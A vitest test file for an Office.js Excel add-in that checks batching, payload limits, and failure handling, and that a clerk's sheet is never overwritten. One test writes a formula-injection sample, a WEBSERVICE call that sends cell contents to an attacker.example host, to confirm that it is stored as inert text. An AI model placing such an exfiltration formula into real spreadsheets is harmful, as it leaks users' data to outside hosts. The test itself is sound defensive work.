// The Office.js adapter through the in-memory Excel: batching, payload limits,
// formula-injection safety, never replacing a clerk's sheet, failure leaves output intact.
import { describe, it, expect } from 'vitest';
import { buildFindingsSheet, markerFor, rowHeightBands, type SheetModel } from '@giaoban/core/internal';
import { FakeExcelHost, FakeOfficeError } from '../../addin/test-support/fakeExcel.js';
import { readWorkbookGrid, writeSheetModels, emptyIo, highlightFindings, clearMarks, addDropdowns } from '../../addin/src/excel/index.js';
import { hostFor } from './support/fakeHost.js';

function model(cells: SheetModel['cells'], kind: SheetModel['kind'] = 'findings', name = 'Kết quả kiểm tra'): SheetModel {
  return { name, kind, cells: [...cells, [markerFor(kind)]], columnWidths: [10, 30], merges: [], styles: [], print: { orientation: 'portrait', paperSize: 'A4', fitToWidth: true }, markerCell: `A${cells.length + 1}` };
}

describe('the fake behaves like Excel', () => {
  it('throws PropertyNotLoaded before load/sync, and counts syncs and bytes', async () => {
    const fake = new FakeExcelHost();
    fake.addSheet('Sổ', [['Ngày', 'Xã'], [43115, 'Nà Khoa']]);
    await fake.run(async (ctx) => {
      const r = ctx.workbook.worksheets.getItem('Sổ').getUsedRange();
      expect(() => r.values).toThrow(/PropertyNotLoaded|not available/);
      r.load('values');
      expect(() => r.values).toThrow(/not available/); // loaded but not yet synced
      await ctx.sync();
      expect(r.values).toEqual([['Ngày', 'Xã'], [43115, 'Nà Khoa']]);
      expect(() => r.address).toThrow(/not available/); // not loaded
    });
    expect(fake.stats.syncs).toBe(1);
    expect(fake.stats.cellsRead).toBe(4);
  });

  it('evaluates "=1+1" written into a General cell, as Excel would', async () => {
    const fake = new FakeExcelHost();
    fake.addSheet('A', [['x']]);
    await fake.run(async (ctx) => {
      ctx.workbook.worksheets.getItem('A').getRange('A1:B1').values = [['=1+1', '15']];
      await ctx.sync();
    });
    expect(fake.cell('A', 'A1')!.formula).toBe('=1+1');
    expect(fake.cell('A', 'B1')!.value).toBe(15);
  });

  it('rejects a request over the payload limit', async () => {
    const fake = new FakeExcelHost({ payloadLimit: 1000 });
    fake.addSheet('A', [['x']]);
    await expect(fake.run(async (ctx) => {
      ctx.workbook.worksheets.getItem('A').getRange('A1:A100').values = Array.from({ length: 100 }, () => ['một đoạn văn bản dài']);
      await ctx.sync();
    })).rejects.toBeInstanceOf(FakeOfficeError);
  });
});

describe('the fake is at least as strict as Excel', () => {
  const refused = async (apiVersion: string, act: (ctx: Parameters<Parameters<FakeExcelHost['run']>[0]>[0]) => void) => {
    const fake = new FakeExcelHost({ apiVersion });
    fake.addSheet('Sổ', [['a', 'b']]);
    return fake.run(async (ctx) => {
      act(ctx);
      await ctx.sync();
    }).then(() => 'ok', (e: FakeOfficeError) => e.code);
  };

  it('refuses members, setters, parameters and load paths above its ExcelApi version (from the @types/office-js table)', async () => {
    const ws = (ctx: Parameters<typeof refused>[1] extends (c: infer C) => void ? C : never) => ctx.workbook.worksheets.getItem('Sổ');
    expect(await refused('1.1', (ctx) => ws(ctx).getRange('A1:B1').merge(false))).toBe('ApiNotFound');
    expect(await refused('1.2', (ctx) => ws(ctx).getRange('A1:B1').merge(false))).toBe('ok');
    expect(await refused('1.1', (ctx) => { ws(ctx).getRange('A:A').format.columnWidth = 50; })).toBe('ApiNotFound');
    expect(await refused('1.1', (ctx) => { ws(ctx).visibility = 'Hidden'; })).toBe('ApiNotFound'); // read 1.1, set 1.2
    expect(await refused('1.1', (ctx) => ws(ctx).load('visibility'))).toBe('ok');
    expect(await refused('1.1', (ctx) => ws(ctx).getUsedRange(true).load('address'))).toBe('ApiNotFound');
    expect(await refused('1.1', (ctx) => ws(ctx).getUsedRange().load('address'))).toBe('ok');
    expect(await refused('1.7', (ctx) => ws(ctx).getRange('A1').load('dataValidation/type'))).toBe('ApiNotFound');
    expect(await refused('1.7', (ctx) => ws(ctx).getRange('A1').dataValidation.clear())).toBe('ApiNotFound');
    expect(await refused('1.8', (ctx) => ws(ctx).getRange('A1').dataValidation.clear())).toBe('ok');
    expect(await refused('1.6', (ctx) => { ws(ctx).getRange('A1').hyperlink = { documentReference: "'Sổ'!A1" }; })).toBe('ApiNotFound');
    expect(await refused('1.1', (ctx) => ctx.workbook.functions.date(1904, 1, 1).load('value'))).toBe('ApiNotFound');
    expect(await refused('1.6', (ctx) => ctx.workbook.protection.load('protected'))).toBe('ApiNotFound');
  });

  it('protection, hidden sheets and table names behave as in Excel', async () => {
    const fake = new FakeExcelHost();
    fake.addSheet('Sổ', [['a', 'b'], [1, 2]]);
    fake.addSheet('Ẩn', [['x']]).visibility = 'Hidden';
    fake.workbookProtected = true;
    await expect(fake.run(async (ctx) => { ctx.workbook.worksheets.add('Mới'); await ctx.sync(); })).rejects.toMatchObject({ code: 'AccessDenied' });
    fake.workbookProtected = false;
    fake.sheet('Sổ').protected = true;
    await expect(fake.run(async (ctx) => { ctx.workbook.worksheets.getItem('Sổ').getRange('A1').values = [['b']]; await ctx.sync(); })).rejects.toMatchObject({ code: 'AccessDenied' });
    await expect(fake.run(async (ctx) => { ctx.workbook.worksheets.getItem('Ẩn').activate(); await ctx.sync(); })).rejects.toMatchObject({ code: 'InvalidOperation' });
    fake.sheet('Sổ').protected = false;
    await fake.run(async (ctx) => { ctx.workbook.worksheets.getItem('Sổ').tables.add("'Sổ'!A1:B2", true).name = 'GiaoBan_TheoThang'; await ctx.sync(); });
    await expect(fake.run(async (ctx) => { ctx.workbook.worksheets.getItem('Sổ').tables.add("'Sổ'!A4:B5", true).name = 'giaoban_theothang'; await ctx.sync(); })).rejects.toMatchObject({ code: 'InvalidArgument' });
  });

  it('each runtime has its own settings copy: a stale copy saved without refreshAsync drops the other\'s keys', () => {
    const fake = new FakeExcelHost();
    const ribbon = fake.settingsRuntime();
    const pane = fake.settingsRuntime();
    pane.set('giaoban.marks.v1', [{ kind: 'fill' }]);
    pane.saveAsync();
    ribbon.set('giaoban.lastRibbonResult', { ok: true });
    ribbon.saveAsync(); // Office saves the whole copy
    expect(fake.settings.has('giaoban.marks.v1')).toBe(false);
    pane.saveAsync();
    ribbon.refreshAsync();
    ribbon.set('giaoban.lastRibbonResult', { ok: true });
    ribbon.saveAsync();
    expect(fake.settings.get('giaoban.marks.v1')).toEqual([{ kind: 'fill' }]);
  });

  it('counts formatted empty cells in getUsedRange() but not in getUsedRange(true)', async () => {
    const fake = new FakeExcelHost();
    fake.addSheet('Sổ', [['a', 'b']]);
    fake.formatArea('Sổ', 'A1:F65536');
    const [all, values] = await fake.run(async (ctx) => {
      const ws = ctx.workbook.worksheets.getItem('Sổ');
      const a = ws.getUsedRange().load('address');
      const v = ws.getUsedRange(true).load('address');
      await ctx.sync();
      return [a.address, v.address];
    });
    expect(all).toBe('Sổ!A1:F65536'.replace('Sổ', "'Sổ'"));
    expect(values).toBe("'Sổ'!A1:B1");
  });
});

describe('readWorkbookGrid', () => {
  it('reads every sheet in 3 syncs with origin, values and number formats', async () => {
    const fake = new FakeExcelHost({ apiVersion: '1.1' });
    fake.addSheet('Giao ban', [[null, null], [null, 'Ngày'], [null, 45292]], [[null, null], [null, null], [null, 'dd/mm/yyyy']]);
    fake.addSheet('Trống', []);
    const host = hostFor(fake);
    const { grid, io } = await host.run((ctx) => readWorkbookGrid(ctx, host.capabilities));
    expect(fake.stats.syncs).toBe(3);
    expect(io.chunkSyncs).toBe(0);
    expect(grid.sheets.map((s) => s.name)).toEqual(['Giao ban', 'Trống']);
    expect(grid.sheets[0]!.origin).toEqual({ row: 2, col: 2 });
    expect(grid.sheets[0]!.values).toEqual([['Ngày'], [45292]]);
    expect(grid.sheets[0]!.numberFormats).toEqual([[null], ['dd/mm/yyyy']]);
    expect(grid.sheets[1]!.values).toEqual([]);
  });

  it('detects the 1904 date system where DATE() is available', async () => {
    const fake = new FakeExcelHost({ date1904: true });
    fake.addSheet('A', [[1]]);
    const host = hostFor(fake);
    const { grid } = await host.run((ctx) => readWorkbookGrid(ctx, host.capabilities));
    expect(grid.date1904).toBe(true);
  });

  it('keeps every response under 5 MB and no range above 5,000,000 cells on a big sheet', async () => {
    const fake = new FakeExcelHost();
    const rows = Array.from({ length: 60_000 }, (_, i) => [i + 1, 45000 + (i % 700), `Xã Nà Khoa ${i}`, 'Tranh chấp đất rẫy giữa hai hộ gia đình ở bản Huổi Hâu, đề nghị xem xét']);
    fake.addSheet('Ý kiến', rows);
    const host = hostFor(fake);
    const { grid, io } = await host.run((ctx) => readWorkbookGrid(ctx, host.capabilities, { maxCellsPerRange: 50_000 }));
    expect(grid.sheets[0]!.values.length).toBe(60_000);
    expect(grid.sheets[0]!.values[59_999]![2]).toBe('Xã Nà Khoa 59999');
    expect(Math.max(...fake.stats.responseBytes)).toBeLessThan(5 * 1024 * 1024);
    expect(io.chunkSyncs).toBeGreaterThan(0);
    expect(fake.stats.syncs).toBe(3 + io.chunkSyncs);
  });
});

describe('writeSheetModels', () => {
  it('writes text starting with = + - @ as text, never as formulas', async () => {
    const fake = new FakeExcelHost({ apiVersion: '1.1' });
    fake.addSheet('Sổ', [['x']]);
    const host = hostFor(fake);
    const nasty = ['=1+1', '=WEBSERVICE("http://attacker.example/?q="&A1)', '+84 912 345 678', '-5', '@SUM(A1)', '15/02/2026'];
    await host.run((ctx) => writeSheetModels(ctx, host.capabilities, [{ name: 'Sổ', marker: null }], [model(nasty.map((s) => ['Nội dung', s]))]));
    nasty.forEach((s, i) => {
      const c = fake.cell('Kết quả kiểm tra', `B${i + 1}`)!;
      expect(c.formula).toBeUndefined();
      expect(c.value).toBe(s);
      expect(c.numberFormat).toBe('@');
    });
  });

  it('never replaces a clerk\'s sheet of the same name; replaces its own marked sheet', async () => {
    const fake = new FakeExcelHost();
    fake.addSheet('Kết quả kiểm tra', [['Ghi chú riêng của cán bộ']]);
    const host = hostFor(fake);
    const r1 = await host.run((ctx) => writeSheetModels(ctx, host.capabilities, [{ name: 'Kết quả kiểm tra', marker: null }], [model([['lần 1']])]));
    expect(r1.sheets[0]).toMatchObject({ sheet: 'Kết quả kiểm tra (2)', action: 'create' });
    expect(fake.cell('Kết quả kiểm tra', 'A1')!.value).toBe('Ghi chú riêng của cán bộ');
    const existing = fake.sheets.map((s) => ({ name: s.name, marker: s.name.endsWith('(2)') ? markerFor('findings') : null }));
    const r2 = await host.run((ctx) => writeSheetModels(ctx, host.capabilities, existing, [model([['lần 2']])]));
    expect(r2.sheets[0]).toMatchObject({ sheet: 'Kết quả kiểm tra (2)', action: 'replace' });
    expect(fake.sheets.map((s) => s.name)).toEqual(['Kết quả kiểm tra', 'Kết quả kiểm tra (2)']);
    expect(fake.cell('Kết quả kiểm tra (2)', 'A1')!.value).toBe('lần 2');
  });

  it('leaves the previous output intact when writing fails midway', async () => {
    const fake = new FakeExcelHost();
    fake.addSheet('Tổng hợp', [['số liệu cũ'], [markerFor('summary')]]);
    const host = hostFor(fake);
    const bad = { ...model([['mới']], 'summary', 'Tổng hợp'), merges: ['A1:ZZZZ9'] }; // invalid address fails in the formats batch
    await expect(host.run((ctx) => writeSheetModels(ctx, host.capabilities, [{ name: 'Tổng hợp', marker: markerFor('summary') }], [bad]))).rejects.toThrow();
    expect(fake.sheets.map((s) => s.name)).toEqual(['Tổng hợp']);
    expect(fake.cell('Tổng hợp', 'A1')!.value).toBe('số liệu cũ');
  });

  it('splits a large write so every request stays under 4 MB; syncs grow only by payload chunks', async () => {
    const counts: { rows: number; syncs: number; chunks: number; max: number }[] = [];
    for (const rows of [10, 40_000]) {
      const fake = new FakeExcelHost();
      fake.addSheet('Sổ', [['x']]);
      const host = hostFor(fake);
      const cells = Array.from({ length: rows }, (_, i) => [i + 1, `Ý kiến số ${i + 1}: đề nghị hướng dẫn thủ tục đăng ký thường trú cho người dân bản Nà Khoa`, 'Đang giải quyết']);
      const io = emptyIo();
      await host.run((ctx) => writeSheetModels(ctx, host.capabilities, [{ name: 'Sổ', marker: null }], [model(cells)], {}, io));
      counts.push({ rows, syncs: fake.stats.syncs, chunks: io.chunkSyncs, max: Math.max(...fake.stats.requestBytes) });
      expect(fake.valuesOf('Kết quả kiểm tra').length).toBe(rows + 1);
    }
    expect(counts[1]!.chunks).toBeGreaterThan(0);
    expect(counts[0]!.syncs - counts[0]!.chunks).toBe(counts[1]!.syncs - counts[1]!.chunks);
    for (const c of counts) expect(c.max).toBeLessThan(4 * 1024 * 1024);
  });

  // Row heights need ExcelApi 1.2 (RangeFormat.rowHeight); on 1.1 they are skipped with a note (see the next test).
  it('sets row heights on ExcelApi 1.2 in bands of equal rows, in the same number of syncs', async () => {
    const long = 'Ngày giao ban không phải ngày làm việc (Chủ nhật 14/01/2018); đề nghị chuyển sang thứ Hai 15/01/2018 theo lịch của Ủy ban nhân dân xã Nà Khoa';
    const findings = Array.from({ length: 6 }, (_, i) => ({
      severity: 'warning' as const,
      code: 'briefing.non-working-day' as const,
      sheet: 'Giao ban',
      cell: `B${i + 2}`,
      message: i < 4 ? `${long}\n- dòng ${i + 2}` : 'Thiếu Trưởng Công an xã',
      messageEn: 'Not a working day',
      suggestion: null,
      suggestionEn: null,
    }));
    const withHeights = buildFindingsSheet(findings, { unit: 'Công an huyện Mường Chà' });
    const heights = withHeights.rowHeights!;
    expect(heights.some((h) => h !== null && h > 30)).toBe(true);
    const run = async (m: SheetModel) => {
      const fake = new FakeExcelHost({ apiVersion: '1.2' });
      fake.addSheet('Giao ban', [['x']]);
      const host = hostFor(fake);
      await host.run((ctx) => writeSheetModels(ctx, host.capabilities, [{ name: 'Giao ban', marker: null }], [m]));
      return fake;
    };
    const fake = await run(withHeights);
    const set = fake.sheet('Kết quả kiểm tra').formats.filter((f) => f.key === 'rowHeight');
    // Every row with a height gets exactly it, through whole-row ranges.
    const got = new Map<number, unknown>();
    for (const f of set) {
      const m = /^A(\d+):XFD(\d+)$|^A(\d+)$/.exec(f.address)!;
      expect(m, f.address).not.toBeNull();
      const [first, last] = m[3] ? [+m[3], +m[3]] : [+m[1]!, +m[2]!];
      for (let r = first; r <= last; r++) {
        expect(got.has(r)).toBe(false);
        got.set(r, f.value);
      }
    }
    heights.forEach((h, r) => expect(got.get(r + 1), `dòng ${r + 1}`).toBe(h === null ? undefined : h));
    // Fewer requests than rows: equal neighbours share one range.
    const rowsWithHeight = heights.filter((h) => h !== null).length;
    expect(set.length).toBe(rowHeightBands(heights).length);
    expect(set.length).toBeLessThan(rowsWithHeight);
    const without = await run({ ...withHeights, rowHeights: undefined });
    expect(fake.stats.syncs).toBe(without.stats.syncs);
  });

  it('skips rich features with a note on ExcelApi 1.1, renders them on newer hosts', async () => {
    const m: SheetModel = { ...model([['a', 'b'], ['c', 'd']]), freeze: { rows: 1, cols: 0 }, conditionalFormats: [{ range: 'A1:B2', formula: 'A1="c"', style: { fill: '#FFC7CE' } }], links: [{ cell: 'B1', sheet: 'Sổ', target: 'A1' }] };
    const old = new FakeExcelHost({ apiVersion: '1.1' });
    old.addSheet('Sổ', [['x']]);
    const h1 = hostFor(old);
    const r1 = await h1.run((ctx) => writeSheetModels(ctx, h1.capabilities, [{ name: 'Sổ', marker: null }], [m]));
    expect(r1.sheets[0]!.notes.map((n) => n.en).join(' ')).toMatch(/frozen.*1\.7|1\.7/);
    expect(r1.sheets[0]!.notes.length).toBeGreaterThanOrEqual(3);
    const fresh = new FakeExcelHost({ apiVersion: '1.17' });
    fresh.addSheet('Sổ', [['x']]);
    const h2 = hostFor(fresh);
    const r2 = await h2.run((ctx) => writeSheetModels(ctx, h2.capabilities, [{ name: 'Sổ', marker: null }], [m]));
    expect(r2.sheets[0]!.notes).toEqual([]);
    const out = fresh.sheet('Kết quả kiểm tra');
    expect(out.freeze).toEqual({ rows: 1, cols: 0 });
    expect(out.conditionalFormats[0]!.formula).toBe('=A1="c"');
    expect(out.hyperlinks[0]).toMatchObject({ address: 'B1', documentReference: 'Sổ!A1'.replace('Sổ', "'Sổ'") });
  });
});

describe('marks: highlight, drop-downs, Xóa đánh dấu', () => {
  it('removes exactly what was added and restores the clerk\'s own fill', async () => {
    const fake = new FakeExcelHost();
    fake.addSheet('Ý kiến', [['Ngày', 'Phân loại'], ['31/02/2018', 'ANTT'], ['15/01/2018', 'xyz']]);
    const host = hostFor(fake);
    await fake.run(async (ctx) => {
      ctx.workbook.worksheets.getItem('Ý kiến').getRange('B3').format.fill.color = '#00B050'; // the clerk's own green
      await ctx.sync();
    });
    const io = emptyIo();
    const findings = [
      { severity: 'error' as const, code: 'date.invalid' as const, sheet: 'Ý kiến', cell: 'A2', message: 'Ngày không hợp lệ', messageEn: 'Invalid date', suggestion: null, suggestionEn: null },
      { severity: 'error' as const, code: 'category.unknown' as const, sheet: 'Ý kiến', cell: 'B3', message: 'Phân loại lạ', messageEn: 'Unknown category', suggestion: null, suggestionEn: null },
    ];
    await host.run((ctx) => highlightFindings(ctx, host.capabilities, host.settings, findings, io));
    expect(fake.fillOf(fake.sheet('Ý kiến'), { r0: 1, c0: 0, rows: 1, cols: 1 })).toBe('#FDE7E9');
    await host.run((ctx) => addDropdowns(ctx, host.capabilities, host.settings, [{ sheet: 'Ý kiến', range: 'B2:B100', list: ['ANTT', 'Khác'] }], io));
    expect(fake.sheet('Ý kiến').validations).toHaveLength(1);
    const { removed } = await host.run((ctx) => clearMarks(ctx, host.capabilities, host.settings, io));
    expect(removed).toBe(3);
    expect(fake.fillOf(fake.sheet('Ý kiến'), { r0: 1, c0: 0, rows: 1, cols: 1 })).toBe('#FFFFFF');
    expect(fake.fillOf(fake.sheet('Ý kiến'), { r0: 2, c0: 1, rows: 1, cols: 1 })).toBe('#00B050');
    expect(fake.sheet('Ý kiến').validations).toHaveLength(0);
    expect(fake.valuesOf('Ý kiến')).toEqual([['Ngày', 'Phân loại'], ['31/02/2018', 'ANTT'], ['15/01/2018', 'xyz']]);
  });

  it('says drop-downs are unavailable on ExcelApi 1.1 instead of failing', async () => {
    const fake = new FakeExcelHost({ apiVersion: '1.1' });
    fake.addSheet('Ý kiến', [['Phân loại']]);
    const host = hostFor(fake);
    const r = await host.run((ctx) => addDropdowns(ctx, host.capabilities, host.settings, [{ sheet: 'Ý kiến', range: 'A2:A10', list: ['ANTT'] }], emptyIo()));
    expect(r).toEqual({ added: 0, skipped: 1, supported: false });
  });
});
